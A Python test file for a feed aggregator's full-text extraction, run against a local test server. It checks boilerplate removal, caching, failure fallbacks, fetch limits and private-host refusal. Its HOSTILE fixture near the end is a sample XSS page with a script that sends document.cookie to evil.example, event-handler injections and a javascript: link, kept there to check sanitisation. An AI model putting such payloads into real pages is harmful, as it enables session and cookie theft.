"""Full text of stories (a source's ``full_text``), against a local site on 127.0.0.1.

The article pages are data: tests/data/articles/NAME.html, each wrapping its story in
navigation, cookie banners, "related" asides and footers, in its own markup (semantic
<article>, div soup, a French page...), beside NAME.json: the phrases of its ``story`` that the
published content must hold, the ``boilerplate`` it must not, and, for a page automatic
detection cannot read alone, the ``selector`` that finds its story. Adding a page adds a case.

What is asserted is what feed readers get: the published RSS (content:encoded), Atom (content)
and JSON Feed (content_html) files; and what the site sees: the server's request log.
"""

from __future__ import annotations

import json
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import feedparser
import pytest
from click.testing import CliRunner

from feedhub.cli import main
from feedhub.config import load_config
from feedhub.extract import main_content
from feedhub.fulltext import ARTICLES_PER_BUILD
from feedhub.model import Config, FetchResult
from feedhub.pipeline import BuildReport, build

from .support.httpd import LocalServer, Reply, Request

DATA = Path(__file__).parent / "data" / "articles"
PAGES = sorted(DATA.glob("*.html"))
TEASER = "A short teaser of the story."


@dataclass(frozen=True)
class Case:
    name: str
    html: bytes
    story: list[str]
    boilerplate: list[str]
    selector: str = ""


def case(path: Path) -> Case:
    expect: dict[str, Any] = json.loads(path.with_suffix(".json").read_text("utf-8"))
    return Case(path.stem, path.read_bytes(), expect["story"], expect["boilerplate"],
                expect.get("selector", ""))


CASES = [case(p) for p in PAGES]
AUTO = [c for c in CASES if not c.selector]


class Site:
    """A feed whose items link to article pages on the same server, each page with an ETag
    (a conditional GET of an unchanged page gets a 304), and a count of requests per path."""

    def __init__(self, server: LocalServer) -> None:
        self.server = server
        self.pages: dict[str, bytes] = {}
        self.statuses: dict[str, int] = {}
        self.items: list[tuple[str, str, str]] = []  # (slug, title, summary)
        self.channel = "v1"
        server.route("/feed.rss", handler=self._feed)

    def page(self, slug: str, body: bytes, status: int = 200) -> None:
        self.pages[slug] = body
        self.statuses[slug] = status
        self.server.route(f"/a/{slug}", handler=self._page)

    def item(self, slug: str, title: str = "", summary: str = TEASER) -> None:
        self.items.append((slug, title or f"Story {slug}", summary))

    def url(self, slug: str) -> str:
        return self.server.url(f"/a/{slug}")

    def hits(self, slug: str) -> int:
        return sum(1 for r in list(self.server.requests) if r.path == f"/a/{slug}")

    def _feed(self, request: Request) -> Reply:
        entries = "".join(
            f"<item><title>{title}</title><link>{self.url(slug)}</link>"
            f"<guid>{self.url(slug)}</guid><description>{summary}</description>"
            f"<pubDate>Tue, {10 + n:02d} Nov 2026 09:00:00 GMT</pubDate></item>"
            for n, (slug, title, summary) in enumerate(self.items))
        body = (f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
                f"<title>Local</title><link>{self.server.url('/')}</link>"
                f"<description>{self.channel}</description>{entries}</channel></rss>").encode()
        return Reply(200, body, {"Content-Type": "application/rss+xml"})

    def _page(self, request: Request) -> Reply:
        slug = request.path.rsplit("/", 1)[1]
        body = self.pages[slug]
        etag = f'"{hash(body) & 0xFFFFFFFF:x}"'
        if request.headers.get("If-None-Match") == etag:
            return Reply(304, b"", {"ETag": etag})
        return Reply(self.statuses[slug], body,
                     {"Content-Type": "text/html; charset=utf-8", "ETag": etag})


def write_config(folder: Path, server: LocalServer, store: str = "", extra: str = "",
                 fetch: str = "") -> Config:
    path = folder / "sources.yaml"
    path.write_text(
        "site: {title: Hub, base_url: 'https://hub.example.org'}\n"
        "sources:\n"
        f"  - id: local\n    kind: feed\n    url: {server.url('/feed.rss')}\n"
        "    allow_private: true  # the test site is on 127.0.0.1\n"
        f"    full_text: true\n{extra}"
        f"store: {store or 'sqlite:///feedhub.db'}\n"
        + (f"fetch: {fetch}\n" if fetch else ""), encoding="utf-8")
    return load_config(path)


@dataclass(frozen=True)
class Published:
    """One item as each published format carries it."""

    rss_content: str
    rss_summary: str
    atom_content: str
    atom_summary: str
    json_content: str
    json_summary: str


def published(config: Config) -> dict[str, Published]:
    """Each published item by link, read back from feeds/all.rss, all.atom and all.json."""
    out = config.output_dir
    rss = feedparser.parse((out / "all.rss").read_bytes())
    atom = feedparser.parse((out / "all.atom").read_bytes())
    feed = json.loads((out / "all.json").read_text("utf-8"))
    atoms = {e.link: e for e in atom.entries}
    jsons = {i["url"]: i for i in feed["items"]}
    found = {}
    for entry in rss.entries:
        a, j = atoms[entry.link], jsons[entry.link]
        found[entry.link] = Published(
            rss_content=entry.content[0].value if "content" in entry else "",
            rss_summary=entry.summary,
            atom_content=a.content[0].value if "content" in a else "",
            atom_summary=a.summary,
            json_content=j.get("content_html", ""), json_summary=j.get("summary", ""))
    return found


def contents(item: Published) -> list[str]:
    return [item.rss_content, item.atom_content, item.json_content]


def kept_reason(report: BuildReport, url: str) -> str:
    reasons = [k for s in report.sources for k in s.articles_kept if k.startswith(url + ":")]
    assert reasons, f"no reason recorded for {url}: {report.sources[0].articles_kept}"
    return reasons[0]


# The story, and none of the boilerplate


def test_published_content_is_the_story_without_boilerplate(
        httpd: LocalServer, tmp_path: Path) -> None:
    site = Site(httpd)
    for c in AUTO:
        site.page(c.name, c.html)
        site.item(c.name)
    config = write_config(tmp_path, httpd)
    report = build(config)
    assert report.ok and report.sources[0].articles == len(AUTO)
    items = published(config)
    for c in AUTO:
        item = items[site.url(c.name)]
        for text in contents(item):
            missing = [p for p in c.story if p not in text]
            leaked = [b for b in c.boilerplate if b in text]
            assert not missing and not leaked, (c.name, missing, leaked)
        # The summary stays the summary.
        assert item.rss_summary == item.atom_summary == item.json_summary == TEASER


def test_a_rebuild_fetches_no_article_again_and_a_changed_one_is_re_extracted(
        httpd: LocalServer, tmp_path: Path, store_url: str) -> None:
    site = Site(httpd)
    for c in AUTO:
        site.page(c.name, c.html)
        site.item(c.name)
    config = write_config(tmp_path, httpd, store_url)
    build(config)
    assert [site.hits(c.name) for c in AUTO] == [1] * len(AUTO)
    # The feed changed (so it is read again), its items did not: no article is asked for.
    site.channel = "v2"
    second = build(config)
    assert second.sources[0].found == len(AUTO) and second.sources[0].updated == 0
    assert [site.hits(c.name) for c in AUTO] == [1] * len(AUTO)
    before = published(config)
    # One story is edited at its source, page and teaser alike; another gets a new teaser
    # only (its page answers 304 to the conditional GET).
    edited, retold = AUTO[0], AUTO[1]
    site.page(edited.name, edited.html.replace(
        edited.story[0].encode(), b"CORRECTION: " + edited.story[0].encode()))
    site.items = [(s, t, "An edited teaser." if s in (edited.name, retold.name) else x)
                  for s, t, x in site.items]
    third = build(config)
    assert third.sources[0].updated == 2
    assert site.hits(edited.name) == site.hits(retold.name) == 2
    asked = [r for r in list(httpd.requests) if r.path in (f"/a/{edited.name}",
                                                            f"/a/{retold.name}")][-2:]
    assert all("If-None-Match" in r.headers for r in asked)
    after = published(config)
    assert "CORRECTION: " + edited.story[0] in after[site.url(edited.name)].rss_content
    assert after[site.url(retold.name)].rss_content == before[site.url(retold.name)].rss_content
    assert after[site.url(retold.name)].rss_summary == "An edited teaser."
    assert [site.hits(c.name) for c in AUTO[2:]] == [1] * len(AUTO[2:])


# Never worse


def slow(request: Request) -> Reply:
    time.sleep(2.5)  # past the config's 1s deadline
    return Reply(200, b"<html><body><p>Too late.</p></body></html>")


def test_a_failing_article_keeps_what_the_item_had_and_says_why(
        httpd: LocalServer, tmp_path: Path) -> None:
    site = Site(httpd)
    good = CASES[0]
    site.page("good", good.html)
    site.page("missing", b"<html><body>Gone</body></html>", status=404)
    httpd.route("/a/slow", handler=slow)
    site.page("tiny", b"<html><body><p>Hi.</p></body></html>")
    long_teaser = ("A teaser that says more than the page itself: the council met, the vote "
                   "was close, and the buses start in spring.")
    for slug in ("good", "missing", "slow"):
        site.item(slug)
    site.item("tiny", summary=long_teaser)
    config = write_config(tmp_path, httpd, fetch="{deadline: 1s, retries: 0}")
    report = build(config)
    assert report.ok, report.sources[0].error  # an item's page failing is not the source's
    items = published(config)
    for slug, summary in (("missing", TEASER), ("slow", TEASER), ("tiny", long_teaser)):
        item = items[site.url(slug)]
        assert item.rss_content == item.atom_content == "", slug
        assert item.rss_summary == summary and item.json_content == summary, slug
    assert good.story[0] in items[site.url("good")].rss_content
    assert "404" in kept_reason(report, site.url("missing"))
    assert "within" in kept_reason(report, site.url("slow"))  # "did not finish within 1s"
    assert "no more than the item's own" in kept_reason(report, site.url("tiny"))
    # Operators see it in the build's table and in `feedhub status`.
    runner = CliRunner()
    status = runner.invoke(main, ["--config", str(config.path), "status"])
    assert "full text: 1 stories from their pages, 3 items kept their own text" in status.output
    assert site.url("missing") in status.output
    # Failed fetches are tried again at the next builds (the feed itself unchanged), three
    # times in all; a page read whole that gave too little is not asked for again.
    for _ in range(3):
        build(config)
    assert site.hits("missing") == 3 and site.hits("slow") == 3
    assert site.hits("tiny") == 1 and site.hits("good") == 1


def test_an_item_linking_a_file_keeps_its_summary(httpd: LocalServer, tmp_path: Path) -> None:
    """Items often link a PDF, a picture or a download instead of an article: their bytes
    (text enough to pass for a long story once decoded) are never published as content."""
    site = Site(httpd)
    pdf = b"%PDF-1.7\n" + b"1 0 obj << /Type /Page >> stream BT (Annual report text) ET\n" * 400
    httpd.route("/a/report.pdf", body=pdf, headers={"Content-Type": "application/pdf"})
    httpd.route("/a/untyped", body=pdf)  # no Content-Type: the bytes say what it is
    httpd.route("/a/photo", body=b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 100,
                headers={"Content-Type": "image/png"})
    for slug in ("report.pdf", "untyped", "photo"):
        site.item(slug)
    config = write_config(tmp_path, httpd)
    report = build(config)
    assert report.ok, report.sources[0].error
    items = published(config)
    for slug, kind in (("report.pdf", "application/pdf"), ("untyped", "binary data"),
                       ("photo", "image/png")):
        assert items[site.url(slug)].rss_content == "", slug
        assert items[site.url(slug)].rss_summary == TEASER, slug
        assert f"not an HTML page ({kind})" in kept_reason(report, site.url(slug)), slug
    build(config)  # a file is not fetched again at the next build
    assert all(site.hits(slug) == 1 for slug in ("report.pdf", "untyped", "photo"))


def test_a_page_that_comes_later_fills_its_item_without_dating_it_updated(
        httpd: LocalServer, tmp_path: Path) -> None:
    site = Site(httpd)
    site.page("late", b"oops", status=503)
    site.item("late")
    config = write_config(tmp_path, httpd, fetch="{retries: 0}")

    def updated() -> str:
        return str(feedparser.parse((config.output_dir / "all.atom").read_bytes())
                   .entries[0].updated)

    build(config)
    first = updated()
    site.page("late", CASES[0].html)
    report = build(config)
    assert report.sources[0].articles == 1 and site.hits("late") == 2
    assert CASES[0].story[0] in published(config)[site.url("late")].rss_content
    # Its page came late: no news of the story, whose updated date stays.
    assert updated() == first


# The bound per build


def test_a_source_fetches_a_bounded_number_of_pages_per_build(
        httpd: LocalServer, tmp_path: Path) -> None:
    site = Site(httpd)
    count = ARTICLES_PER_BUILD + 3
    for n in range(count):
        site.page(f"s{n}", CASES[0].html)
        site.item(f"s{n}", title=f"Story number {n} of many")
    config = write_config(tmp_path, httpd)
    first = build(config)
    fetched = sum(site.hits(f"s{n}") for n in range(count))
    assert fetched == ARTICLES_PER_BUILD and first.sources[0].articles_left == 3
    # The feed is the same, yet the next build reads it again for the pages left over.
    second = build(config)
    assert sum(site.hits(f"s{n}") for n in range(count)) == count
    assert second.sources[0].articles == 3 and second.sources[0].articles_left == 0
    assert all(CASES[0].story[0] in p.rss_content for p in published(config).values())
    third = build(config)
    assert third.sources[0].unchanged_body
    assert sum(site.hits(f"s{n}") for n in range(count)) == count


# content_selector


SELECTED = [c for c in CASES if c.selector]


@pytest.mark.parametrize("c", SELECTED, ids=lambda c: c.name)
def test_content_selector_picks_the_given_element(
        c: Case, httpd: LocalServer, tmp_path: Path) -> None:
    # The premise: found automatically, the page's story comes with boilerplate.
    auto = main_content("x", FetchResult(url="http://127.0.0.1/a", body=c.html))
    assert any(b in auto for b in c.boilerplate)
    site = Site(httpd)
    site.page(c.name, c.html)
    site.item(c.name)
    config = write_config(tmp_path, httpd,
                          extra=f"    content_selector: {json.dumps(c.selector)}\n")
    build(config)
    for text in contents(published(config)[site.url(c.name)]):
        assert all(p in text for p in c.story), text
        assert not [b for b in c.boilerplate if b in text], text


def test_a_content_selector_matching_nothing_keeps_the_summary(
        httpd: LocalServer, tmp_path: Path) -> None:
    site = Site(httpd)
    site.page("p", CASES[0].html)
    site.item("p")
    config = write_config(tmp_path, httpd, extra="    content_selector: div.no-such-thing\n")
    report = build(config)
    assert "matches nothing" in kept_reason(report, site.url("p"))
    assert published(config)[site.url("p")].rss_content == ""


# Safety


def test_an_article_on_another_private_host_is_refused_like_a_source_url(
        httpd: LocalServer, tmp_path: Path) -> None:
    with LocalServer(host="127.0.0.2") as other:
        other.route("/a/story", CASES[0].html, headers={"Content-Type": "text/html"})
        site = Site(httpd)
        site.items.append(("x", "Elsewhere", TEASER))
        site.url = lambda slug: other.url("/a/story")  # type: ignore[method-assign]
        config = write_config(tmp_path, httpd)
        report = build(config)
        assert other.requests == []
        assert "refused" in kept_reason(report, other.url("/a/story"))
        assert published(config)[other.url("/a/story")].rss_content == ""
        # Trusted by name, as a source's redirects and next pages are, it is read.
        config = write_config(tmp_path, httpd, extra="    allow_hosts: [127.0.0.2]\n")
        build(config)
        assert len(other.requests) >= 1
        assert CASES[0].story[0] in published(config)[other.url("/a/story")].rss_content


def test_a_path_source_trusts_no_private_host_for_its_articles(
        httpd: LocalServer, tmp_path: Path) -> None:
    """allow_private trusts the host of a source's own URL; a local file has none."""
    site = Site(httpd)
    site.page("p", CASES[0].html)
    site.item("p")
    (tmp_path / "feed.rss").write_bytes(httpd.routes["/feed.rss"](
        Request("GET", "/feed.rss", {}, None)).body)  # type: ignore[arg-type, union-attr]
    (tmp_path / "sources.yaml").write_text(
        "site: {title: Hub, base_url: 'https://hub.example.org'}\n"
        "sources:\n  - {id: local, kind: feed, path: feed.rss, allow_private: true, "
        "full_text: true}\n", encoding="utf-8")
    report = build(load_config(tmp_path / "sources.yaml"))
    assert "refused" in kept_reason(report, site.url("p")) and site.hits("p") == 0


HOSTILE = b"""<!DOCTYPE html><html><head><title>t</title>
<script>document.cookie</script><style>p{color:red}</style></head><body>
<nav><a href="/">Home page link</a></nav>
<article>
<h1>Hostile but newsworthy</h1>
<p onclick="steal()" style="position:fixed">The first paragraph of the story is long enough to
be the story, and it says that the river rose by two metres overnight in the lower town.</p>
<script>fetch('https://evil.example/?c=' + document.cookie)</script>
<p>A <a href="javascript:alert(1)">link that runs code</a>, a <a href="/maps/river">relative
link</a> and an image <img src="/img/river.jpg" onerror="steal()" alt="river"> follow, as
the second paragraph tells what the fire brigade did during the night.</p>
<iframe src="https://evil.example/frame"></iframe>
<p>The third paragraph says the water is expected to fall by the weekend, and that the
bridges stay closed until engineers have inspected them.</p>
</article></body></html>"""


@pytest.mark.parametrize("selector", ["", "article"], ids=["found", "content_selector"])
def test_hostile_article_html_is_sanitised(selector: str, httpd: LocalServer,
                                           tmp_path: Path) -> None:
    """Whether the story is found or named: readability cleans some of it on its way, a
    content_selector hands the element over as the page wrote it."""
    site = Site(httpd)
    site.page("hostile", HOSTILE)
    site.item("hostile")
    config = write_config(tmp_path, httpd,
                          extra=f"    content_selector: {selector}\n" if selector else "")
    build(config)
    item = published(config)[site.url("hostile")]
    for text in contents(item):
        assert "river rose by two metres" in text and "bridges stay closed" in text
        lowered = text.lower()
        for bad in ("<script", "document.cookie", "onclick", "onerror", "javascript:",
                    "<iframe", "style=", "evil.example"):
            assert bad not in lowered, (bad, text)
        # Links and images resolve against the article's own URL.
        assert f'href="{httpd.url("/maps/river")}"' in text
        assert f'src="{httpd.url("/img/river.jpg")}"' in text


def test_a_page_over_the_size_cap_keeps_the_summary(
        httpd: LocalServer, tmp_path: Path) -> None:
    """A page cut short by the size cap is the fetch's failure, not a short story."""
    site = Site(httpd)
    big = CASES[0].html + b"<!--" + b"x" * 300_000 + b"-->"
    site.page("big", big)
    site.item("big")
    config = write_config(tmp_path, httpd, fetch="{max_bytes: 100000}")
    report = build(config)
    assert "100000" in kept_reason(report, site.url("big")).replace(",", "")
    assert published(config)[site.url("big")].rss_content == ""

